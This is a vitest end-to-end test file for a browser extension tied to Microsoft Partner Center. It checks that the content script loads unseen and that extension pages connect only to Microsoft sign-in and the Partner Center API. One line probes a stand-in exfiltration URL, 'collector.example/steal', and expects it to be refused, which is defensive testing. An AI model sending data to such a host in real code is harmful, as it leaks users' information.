import { afterAll, beforeAll, expect, test } from 'vitest';
import { launchExtension, type ExtensionSession } from './launch-extension.ts';
import { startHttpsServer, type RunningServer } from './https-server.ts';
import { waitForContentScript, watchExtensionLoads } from './content-page-probe.ts';

let server: RunningServer;
let session: ExtensionSession;
/** Host of every request the local server answered. */
const reached: string[] = [];

beforeAll(async () => {
  server = await startHttpsServer((req, res) => {
    reached.push(req.headers.host ?? '');
    res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
    res.end('<!doctype html><title>Partner Center</title><h1>Customers</h1>');
  });
  // One local server stands in for every host: only the extension's policy decides what is reached.
  const hosts = Object.fromEntries(['partner.microsoft.com', 'api.partnercenter.microsoft.com', 'login.microsoftonline.com', 'collector.example'].map((h) => [h, server.port]));
  session = await launchExtension({ hosts });
});

afterAll(async () => {
  await session?.close();
  await server?.close();
});

test('the built extension loads, its worker runs and its content script reaches Partner Center', async () => {
  expect(session.extensionId).toMatch(/^[a-p]{32}$/);
  const page = await session.context.newPage();
  const loads = await watchExtensionLoads(page);
  await page.goto('https://partner.microsoft.com/en-us/dashboard/commerce2/customers/list');
  await waitForContentScript(loads);
  // ... and leaves no mark on the page a script could use to detect it.
  expect(await page.evaluate(() => document.documentElement.getAttributeNames().filter((n) => n.includes('sku')))).toEqual([]);
});

test('extension pages connect only to Microsoft sign-in and the Partner Center API', async () => {
  const page = await session.context.newPage();
  await page.goto(session.url('src/pages/dashboard/index.html'));
  const outcome = (url: string) =>
    page.evaluate(
      (u) =>
        fetch(u, { credentials: 'omit' }).then(
          (r) => `status ${r.status}`,
          () => 'refused',
        ),
      url,
    );
  reached.length = 0;
  expect(await outcome('https://api.partnercenter.microsoft.com/v1/customers')).toBe('status 200');
  expect(await outcome('https://login.microsoftonline.com/organizations/v2.0/.well-known/openid-configuration')).toBe('status 200');
  expect(await outcome('https://collector.example/steal?notes=1')).toBe('refused');
  expect(await outcome('https://partner.microsoft.com/en-us/dashboard')).toBe('refused');
  expect(reached.sort()).toEqual(['api.partnercenter.microsoft.com', 'login.microsoftonline.com']);
});
